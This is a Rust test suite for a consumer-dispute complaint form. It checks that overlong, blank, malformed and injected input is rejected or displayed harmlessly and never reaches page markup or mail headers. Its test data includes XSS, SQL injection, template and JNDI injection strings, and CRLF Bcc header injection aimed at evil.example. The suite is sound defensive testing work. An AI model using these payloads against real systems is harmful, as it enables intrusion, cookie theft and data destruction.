//! What people and programs type into fields: too much, nothing, the wrong
//! kind, and attempts at injection. Nothing invalid is filed, nothing that was
//! typed is lost, and nothing becomes part of a page's markup or of a mail's
//! headers.

use tests::{Browser, Dispute, Mail, Page, World, fill_in};

/// Texts that are odd, or that try to be more than text.
const ODD: [&str; 12] = [
    "bel\u{7}\u{0}\u{1B}[31mrood",
    "regel\r\nBcc: iedereen@mailbox.example\r\n\r\nHallo",
    "😡👩‍👩‍👧‍👦🇳🇱",
    "الطلب لم يصل أبدًا",
    "\u{202E}elpmis ton\u{202C}",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><form action=//evil.example>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://x}",
    "' OR 1=1; DROP TABLE cases; --",
    "[klik](http://evil.example) **vet** # kop",
    "a\u{301}\u{301}\u{301}ﷺ\u{FFFD}\u{FEFF}",
];

const MAILS: [&str; 13] = [
    "emre@1.2.3.4",
    "emre@mail.123",
    "emre@xn--a.example",
    "emre",
    "emre@",
    "emre@mailbox",
    "emre@mailbox.example\r\nBcc: x@evil.example",
    "emre@mailbox.example, x@evil.example",
    "emre@mailbox.example x@evil.example",
    "Emre <emre@mailbox.example>",
    "\"emre voorbeeld\"@mailbox.example",
    "émre@mailbox.example",
    "emre@[127.0.0.1]",
];

const AMOUNTS: [&str; 13] = [
    "99,999",
    "1.250",
    "12-",
    "veel",
    "-5",
    "1e9",
    "NaN",
    "12,34,5",
    "219,9,5",
    "٢١٩",
    "$ 5",
    "0x10",
    "99999999999999999999999",
];

const DATES: [[&str; 3]; 8] = [
    ["31", "2", "2026"],
    ["0", "1", "2026"],
    ["1", "13", "2026"],
    ["een", "mei", "2026"],
    ["1.5", "6", "2026"],
    ["-1", "-1", "-1"],
    ["99999999999", "6", "2026"],
    ["1", "6", ""],
];

/// A completely filled in form, so that each page can be opened.
fn filled_in(world: &World) -> Browser {
    let mut browser = world.browser();
    fill_in(&mut browser, &Dispute::default());
    browser
}

/// The value as a browser shows it: one kind of line end, no NUL.
fn shown(value: &str) -> String {
    value.replace("\r\n", "\n").replace('\0', "\u{FFFD}")
}

/// Typed words are shown in their field, and nowhere as markup.
fn assert_kept(page: &Page, step: &str, fields: &[(&str, &str)]) {
    for (name, value) in fields {
        // No radio button corresponds to an invalid answer.
        if !matches!(*name, "problem" | "remedy" | "told") {
            let kept = page.form(step);
            let kept = kept.value(name).map(shown);
            assert_eq!(kept, Some(shown(value)), "{step}: {name}");
        }
    }
    assert_harmless(page);
}

fn assert_harmless(page: &Page) {
    assert!(!page.has("main script, main img, main [onerror], a[href*=evil]"));
    assert!(!page.has("form[action*=evil], iframe, object"));
}

/// Sends these to a page of the form. The page is shown again with what was
/// typed, also after a reload. Then restores valid values.
fn comes_back(browser: &mut Browser, step: &str, fields: &[(&str, &str)]) -> Page {
    let good = browser.open(&format!("/file/{step}")).form(step);
    let page = good.clone().fill_all(fields).send(browser);
    assert_eq!(page.status, 422, "{step}: {fields:?}");
    assert!(!page.errors().is_empty(), "{step}: {fields:?}");
    assert_kept(&page, step, fields);
    assert_kept(&browser.open(&format!("/file/{step}")), step, fields);
    let filed = browser.post("/file/check", &[]);
    assert_eq!(
        filed.path(),
        format!("/file/{step}"),
        "nothing wrong is filed"
    );
    good.send(browser);
    page
}

#[test]
fn a_field_that_is_too_long_is_shown_again_whole() {
    let world = World::unswept();
    let mut browser = filled_in(&world);
    for (step, name, most) in [
        ("order", "order-number", 60),
        ("story", "story", 10_000),
        ("solution", "remedy-words", 1_000),
        ("told", "told-how", 200),
        ("contact", "name", 100),
        ("contact", "phone", 30),
        ("contact", "mail", 254),
    ] {
        let long = "é".repeat(most + 1);
        let page = match step {
            "solution" => comes_back(&mut browser, step, &[("remedy", "other"), (name, &long)]),
            _ => comes_back(&mut browser, step, &[(name, &long)]),
        };
        assert!(
            page.errors()[0].contains(&most.to_string()),
            "{:?}",
            page.errors()
        );
    }
    assert_eq!(world.all_mails().len(), 0);
    world.assert_settled(&[]);
}

#[test]
fn a_field_as_long_as_it_may_be_is_taken() {
    let world = World::unswept();
    let mut browser = filled_in(&world);
    for (step, name, most) in [
        ("order", "order-number", 60),
        ("story", "story", 10_000),
        ("told", "told-how", 200),
        ("contact", "name", 100),
    ] {
        let form = browser.open(&format!("/file/{step}?change=1")).form(step);
        let page = form.fill(name, &"é".repeat(most)).send(&mut browser);
        assert_eq!(page.path(), "/file/check", "{step}: {name}");
    }
    let check = browser.open("/file/check").form("/file/check");
    assert_eq!(check.send(&mut browser).status, 200);
    world.confirm_all(&mut browser, Dispute::default().mail);
    assert_eq!(world.all_mails().len(), 3);
    world.assert_settled(&["shop-term"]);
}

#[test]
fn a_field_that_needs_an_answer_is_not_left_empty() {
    let world = World::unswept();
    let mut browser = filled_in(&world);
    for blank in [
        "",
        " \t\r\n ",
        "\u{200B}\u{2060}",
        "\u{3164}",
        "\u{2800}\u{200D}",
    ] {
        for (step, fields) in [
            ("order", &[("order-number", blank)][..]),
            ("order", &[("amount", blank)]),
            ("story", &[("story", blank)]),
            (
                "solution",
                &[("remedy", "part-of-money-back"), ("remedy-amount", blank)],
            ),
            ("solution", &[("remedy", "other"), ("remedy-words", blank)]),
            ("told", &[("told", "yes"), ("told-how", blank)]),
            ("contact", &[("name", blank)]),
            ("contact", &[("mail", blank)]),
        ] {
            comes_back(&mut browser, step, fields);
        }
    }
    for step in ["problem", "order", "story", "solution", "told", "contact"] {
        let mut fresh = filled_in(&world);
        let empty: Vec<(String, String)> = fresh.open(&format!("/file/{step}")).form(step).fields;
        let empty: Vec<(&str, &str)> = empty.iter().map(|(name, _)| (name.as_str(), "")).collect();
        let page = fresh.post(&format!("/file/{step}"), &empty);
        assert_eq!(page.status, 422, "{step}");
        assert!(!page.errors().is_empty());
    }
    assert_eq!(world.all_mails().len(), 0);
    world.assert_settled(&[]);
}

#[test]
fn an_answer_of_the_wrong_kind_is_shown_again() {
    let world = World::unswept();
    let mut browser = filled_in(&world);
    for word in ["stolen", "Late", "late ", "0", "<b>"] {
        for (step, name) in [
            ("problem", "problem"),
            ("solution", "remedy"),
            ("told", "told"),
        ] {
            comes_back(&mut browser, step, &[(name, word)]);
        }
    }
    for amount in AMOUNTS {
        comes_back(&mut browser, "order", &[("amount", amount)]);
        let part = ("remedy", "part-of-money-back");
        comes_back(&mut browser, "solution", &[part, ("remedy-amount", amount)]);
    }
    for mail in MAILS {
        comes_back(&mut browser, "contact", &[("mail", mail)]);
    }
    assert_eq!(browser.open("/file/check").path(), "/file/check");
    assert_eq!(world.all_mails().len(), 0);
    world.assert_settled(&[]);
}

#[test]
fn an_invalid_day_is_shown_again() {
    let world = World::unswept();
    let mut browser = filled_in(&world);
    let tomorrow = ["21", "11", "2026"];
    let others = [
        ["1", "1", "2030"],
        ["1", "1", "1999"],
        ["1", "1", "15"],
        ["3/4/2026", "", ""],
        ["27-6-2026", "6", "2026"],
        tomorrow,
    ];
    for [day, month, year] in DATES.into_iter().chain(others) {
        for (step, names) in [
            ("order", ["order-day", "order-month", "order-year"]),
            ("told", ["told-day", "told-month", "told-year"]),
        ] {
            let fields = [(names[0], day), (names[1], month), (names[2], year)];
            comes_back(&mut browser, step, &fields);
        }
    }
    world.assert_settled(&[]);
}

#[test]
fn odd_texts_are_kept_as_texts_on_every_page_of_the_form() {
    let world = World::unswept();
    let mut browser = filled_in(&world);
    for odd in ODD {
        for (step, name) in [
            ("order", "order-number"),
            ("story", "story"),
            ("told", "told-how"),
            ("contact", "name"),
            ("contact", "phone"),
            ("order", "amount"),
            ("order", "order-day"),
            ("contact", "mail"),
        ] {
            let form = browser.open(&format!("/file/{step}")).form(step);
            form.clone().fill(name, odd).send(&mut browser);
            let again = browser.open(&format!("/file/{step}"));
            assert_kept(&again, step, &[(name, odd)]);
            form.send(&mut browser);
        }
        let page = browser.post("/file/shop", &[("shop", odd)]);
        assert_eq!(page.status, 422);
        assert_harmless(&page);
        let page = browser.post("/file/problem", &[("problem", odd)]);
        assert_eq!(page.status, 422);
        browser.post("/file/problem", &[("problem", "late")]);
        let query = form_urlencoded_of(odd);
        assert_harmless(&browser.open(&format!("/file/shop?q={query}")));
    }
    world.assert_settled(&[]);
}

fn form_urlencoded_of(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// The mail has each header on one line, one recipient, and nothing injected.
fn assert_is_one_honest_mail(mail: &Mail, to: &str) {
    assert_eq!(mail.to, to);
    for (name, value) in &mail.headers {
        assert!(!value.contains(['\r', '\n']), "{name}: {value:?}");
        assert!(!["bcc", "cc"].contains(&&*name.to_lowercase()), "{name}");
    }
    assert!(!mail.subject.contains(['\r', '\n']), "{:?}", mail.subject);
    for part in [
        "<script",
        "<img src=x",
        "<form action",
        "href=\"http://evil",
    ] {
        assert!(!mail.html.contains(part), "{part}");
    }
}

/// The first letters that stand together in it.
fn letters(text: &str) -> &str {
    let mut runs = text.split(|c: char| !c.is_alphabetic());
    runs.find(|run| !run.is_empty()).unwrap_or_default()
}

#[test]
fn an_odd_complaint_is_filed_and_harms_nobody() {
    let world = World::unswept();
    for (at, odd) in ODD.into_iter().enumerate() {
        // A shop that gets more on a day is told of them in a list.
        if at % 10 == 9 {
            world.pass("P1D");
        }
        // At most ten cases with one address are accepted in a day.
        let mail: &'static str = Box::leak(format!("emre{at}@mailbox.example").into_boxed_str());
        let dispute = Dispute {
            mail,
            order: odd,
            story: odd,
            remedy: ("other", odd),
            told: Some((["12", "7", "2026"], odd)),
            name: odd,
            ..Dispute::default()
        };
        let (consumer, shop) = world.both_sides(&dispute);
        assert_eq!(consumer.sent.status, 200, "{odd}");
        for (mailbox, mail) in [
            (&consumer.mail, consumer.newest_mail()),
            (&shop.mail, shop.newest_mail()),
        ] {
            assert_is_one_honest_mail(&mail, mailbox);
            let page = world.browser().open(&mail.case_link());
            assert_harmless(&page);
            assert!(page.says(letters(odd)), "{odd}");
        }
    }
    assert_eq!(
        world.all_mails().len(),
        3 * ODD.len(),
        "nobody else gets mail"
    );
    world.assert_settled(&["shop-term"; ODD.len()]);
}

#[test]
fn odd_letters_of_either_side_harm_nobody() {
    let world = World::unswept();
    let odd = ODD.join("\n");
    let (mut consumer, mut shop) = world.both_sides(&Dispute::default());
    shop.answers("message", &[("text", &odd)]);
    shop.offers(&odd, "", ["30", "11", "2026"]);
    consumer.sends("/message", &[("text", &odd)]);
    consumer.answers_the_offer("decline");
    shop.answers("solved", &[("text", &odd)]);
    shop.answers("refuse", &[("text", &odd)]);
    consumer.sends("/withdraw", &[("text", &odd)]);
    for page in [consumer.case_page(), shop.case_page()] {
        assert_harmless(&page);
        let history = page.history();
        let words = history.iter().flat_map(|entry| &entry.words);
        let words: Vec<&String> = words.collect();
        assert!(words.len() >= 6, "{words:?}");
        for words in words {
            assert!(
                ODD.iter().all(|odd| words.contains(letters(odd))),
                "{words}"
            );
            assert!(!words.contains(['\u{202E}', '\0', '\u{1B}', '\r']));
        }
    }
    for mail in world.all_mails() {
        let known = [&consumer.mail, &shop.mail].contains(&&mail.to);
        assert!(known, "{}", mail.to);
        assert_is_one_honest_mail(&mail, &mail.to);
    }
    world.assert_settled(&[]);
}

#[test]
fn a_wrong_answer_of_the_shop_is_shown_again_and_nothing_is_stored() {
    let world = World::unswept();
    let (_, mut shop) = world.both_sides(&Dispute::default());
    let before = world.traces();
    let long = "x".repeat(10_001);
    let offer = |amount, [day, month, year]: [&'static str; 3]| {
        vec![
            ("text", "De helft terug."),
            ("amount", amount),
            ("day", day),
            ("month", month),
            ("year", year),
        ]
    };
    let good = ["30", "11", "2026"];
    let mut wrong = vec![("offer", vec![("text", ""), ("day", "30")])];
    for answer in ["message", "offer", "solved", "refuse"] {
        wrong.push((answer, vec![("text", " \r\n\t")]));
        wrong.push((answer, vec![("text", &long)]));
    }
    wrong.extend(AMOUNTS.map(|amount| ("offer", offer(amount, good))));
    wrong.extend(DATES.map(|date| ("offer", offer("110", date))));
    wrong.push(("offer", offer("0,00", good)));
    wrong.push(("offer", offer("219,96", good)));
    wrong.push(("offer", offer("110", ["19", "11", "2026"])));
    wrong.push(("offer", offer("110", ["1", "1", "2999"])));
    for (answer, fields) in wrong {
        let form = shop.answer_form(answer).fill_all(&fields);
        let page = form.send(&mut shop.browser);
        assert_eq!(page.status, 422, "{answer}: {fields:?}");
        assert!(!page.errors().is_empty() && page.has("details[open]"));
        let mut forms = page.forms("/answer").into_iter();
        let kept = forms.find(|form| form.value("answer") == Some(answer));
        for (name, value) in &fields {
            let kept = kept.as_ref().and_then(|form| form.value(name)).map(shown);
            assert_eq!(kept, Some(shown(value)), "{answer}: {name}");
        }
    }
    assert_eq!(world.traces(), before);
    world.assert_settled(&["shop-term"]);
}

#[test]
fn a_wrong_message_or_reason_of_the_consumer_is_shown_again_and_nothing_is_stored() {
    let world = World::unswept();
    let (mut consumer, _) = world.both_sides(&Dispute::default());
    let before = world.traces();
    let long = "é".repeat(10_001);
    for (action, text) in [("/message", ""), ("/message", &long), ("/withdraw", &long)] {
        let page = consumer.sends(action, &[("text", text)]);
        assert_eq!(page.status, 422, "{action}");
        assert_eq!(page.form(action).value("text"), Some(text));
        assert_eq!(page.errors().len(), 1);
    }
    assert_eq!(world.traces(), before);
    world.assert_settled(&["shop-term"]);
}

/// A browser writes a character of these as twelve bytes.
#[test]
fn ten_thousand_characters_are_taken_whatever_they_are() {
    let world = World::unswept();
    let (mut consumer, _) = world.both_sides(&Dispute::default());
    let too_long = "😡".repeat(12_000);
    let page = consumer.sends("/message", &[("text", &too_long)]);
    assert_eq!(page.status, 422);
    assert_eq!(page.form("/message").value("text"), Some(&*too_long));
    let longest = "😡".repeat(10_000);
    assert!(
        consumer
            .sends("/message", &[("text", &longest)])
            .went_well()
    );
    world.assert_settled(&["shop-term"]);
}

/// Somebody writes for a long time, and meanwhile the case moves on.
#[test]
fn words_that_come_too_late_are_shown_to_be_copied() {
    let world = World::unswept();
    let (mut consumer, mut shop) = world.both_sides_after_seven_days(&Dispute::default());
    let (mine, theirs) = (
        consumer.case_page().form("/message"),
        shop.answer_form("message"),
    );
    consumer.clicks("mediation");
    let before = world.traces();
    let long = "é".repeat(10_001);
    for (status, text) in [(409, "Een lang verhaal."), (422, &*long)] {
        for page in [
            mine.clone().fill("text", text).send(&mut consumer.browser),
            theirs.clone().fill("text", text).send(&mut shop.browser),
        ] {
            assert_eq!(page.status, status);
            assert!(page.banner().contains("verdergegaan"), "{}", page.banner());
            assert_eq!(page.words("[aria-labelledby=unsent] .words"), text);
        }
    }
    assert_eq!(world.traces(), before);
    let withdraw = consumer
        .case_page()
        .form("/withdraw")
        .fill("text", "Laat maar.");
    consumer.chooses_on_the_page("solved");
    let late = withdraw.send(&mut consumer.browser);
    assert_eq!(late.words("[aria-labelledby=unsent] .words"), "Laat maar.");
    let nothing_typed = withdraw.fill("text", "").send(&mut consumer.browser);
    assert!(!nothing_typed.has("[aria-labelledby=unsent]"));
    world.assert_settled(&[]);
}

#[test]
fn what_no_form_of_ours_sends_is_refused_and_nothing_is_stored() {
    let world = World::unswept();
    let (mut consumer, shop) = world.both_sides_after_seven_days(&Dispute::default());
    let (mine, theirs) = (consumer.case_link(), shop.newest_mail().case_link());
    let before = world.traces();
    let words = [
        "",
        "x",
        "-1",
        "1.5",
        " 1",
        "99999999999999999999999999",
        "<b>",
        "\0",
        "🎈",
    ];
    for word in words {
        for (link, action, fields) in [
            (
                &theirs,
                "answer",
                &[
                    ("text", "Hallo."),
                    ("answer", "message"),
                    ("submission", word),
                ][..],
            ),
            (
                &theirs,
                "answer",
                &[("text", "Hallo."), ("answer", word), ("submission", "1")],
            ),
            (
                &mine,
                "message",
                &[("text", "Hallo."), ("submission", word)],
            ),
            (
                &mine,
                "offer",
                &[("offer", word), ("answer", "accept"), ("bound", "1")],
            ),
            (&mine, "offer", &[("offer", "3"), ("answer", word)]),
            (&mine, "choice", &[("choice", word), ("round", "1")]),
            (&mine, "choice", &[("choice", "mediation"), ("round", word)]),
            (&mine, "performance", &[("performed", word)]),
        ] {
            let page = consumer.browser.post(&format!("{link}/{action}"), fields);
            assert_eq!(page.status, 400, "{action}: {fields:?}");
            assert!(page.has("main a[href]"));
        }
    }
    for action in ["answer", "message", "offer", "choice", "performance"] {
        let link = if action == "answer" { &theirs } else { &mine };
        let page = consumer.browser.post(&format!("{link}/{action}"), &[]);
        assert_eq!(page.status, 400, "{action} without a field");
    }
    assert_eq!(world.traces(), before);
    world.assert_settled(&["first-reminder", "second-reminder", "choice-lapse"]);
}

#[test]
fn what_does_not_fit_the_stage_changes_nothing_and_says_so() {
    let world = World::unswept();
    let (mut consumer, _) = world.both_sides(&Dispute::default());
    let mine = consumer.case_link();
    let before = world.traces();
    for (action, fields) in [
        (
            "offer",
            &[("offer", "99"), ("answer", "accept"), ("bound", "1")][..],
        ),
        ("offer", &[("offer", "1"), ("answer", "decline")]),
        ("choice", &[("choice", "mediation"), ("round", "1")]),
        ("choice", &[("choice", "working"), ("round", "7")]),
        ("reopen", &[]),
        ("performance", &[("performed", "yes")]),
    ] {
        let page = consumer.browser.post(&format!("{mine}/{action}"), fields);
        assert_eq!(page.status, 200, "{action}");
        assert!(!page.banner().is_empty(), "{action}");
    }
    assert_eq!(world.traces(), before);
    world.assert_settled(&["shop-term"]);
}
